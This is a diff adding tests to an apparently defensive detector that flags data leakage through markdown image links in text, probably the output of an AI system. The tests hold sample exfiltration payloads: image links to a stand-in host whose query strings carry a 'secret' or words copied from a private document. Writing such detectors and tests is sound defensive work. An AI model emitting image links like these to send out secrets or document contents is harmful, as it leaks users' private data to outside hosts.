@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import time
 import urllib.parse
 
 import msgspec
@@ -208,6 +209,25 @@ def test_every_address_gets_a_verdict(path: str) -> None:
         verdict = links.judge(url, is_fetched=True, known_texts=[PROMPT])
         assert 0.0 <= verdict.score <= 1.0
         assert isinstance(links.host_of(url), str)
+
+
+def test_an_address_too_long_to_be_judged_is_a_finding_by_itself() -> None:
+    text = f"see ![a](https://c.example/p?v=1.{'0' * links.LONGEST}) there"
+    (found,) = read("leakage", text, least=0.5)
+    assert (found.category, found.reason) == ("leakage.exfiltration", "an address too long to be read")
+    assert span(text, found).startswith("https://c.example/")
+    said = f"![a](https://c.example/p?d=the+secret+is+out+of+the+house&v={'0' * links.LONGEST})"
+    assert read("leakage", said)[0].score > found.score
+
+
+def test_words_of_long_documents_are_found_in_addresses_without_reading_them_for_each() -> None:
+    document = " ".join(f"word{n} follows" for n in range(20_000))
+    text = "".join(f"![a](https://c.example/{n}?v={n}) " for n in range(1000))
+    leak = "![a](https://c.example/p?v=follows+word7+follows+word8)"
+    started = time.process_time()
+    found = read("leakage", text + leak, documents=[document], least=0.9)
+    assert [f.location.start for f in found] == [len(text) + len("![a](")]
+    assert time.process_time() - started < 3.0
 
 
 def test_an_unknown_option_is_an_error() -> None:
